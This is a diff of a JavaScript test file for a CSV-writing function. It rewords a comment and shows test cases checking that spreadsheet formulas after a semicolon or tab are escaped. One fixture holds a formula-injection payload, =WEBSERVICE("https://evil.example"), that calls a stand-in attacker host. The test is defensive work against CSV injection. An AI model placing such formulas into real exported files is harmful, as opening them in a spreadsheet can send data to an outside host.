@@ -6,7 +6,7 @@ it('quotes what RFC 4180 asks to be quoted, and ends with CRLF', () => {
   expect(csvRecord(['a;b', 'c\td'])).toBe('"a;b","c\td"\r\n')
 })
 
-/** Where a list is separated by semicolons, as in much of Europe, a spreadsheet does not see a quote that follows a comma. */
+/** A spreadsheet that splits at semicolons, as in much of Europe, does not recognise a quote after a comma. */
 it.each([
   ['a;=WEBSERVICE("https://evil.example")', `a;'=WEBSERVICE("https://evil.example")`],
   ['a\t@SUM(A1)', "a\t'@SUM(A1)"],
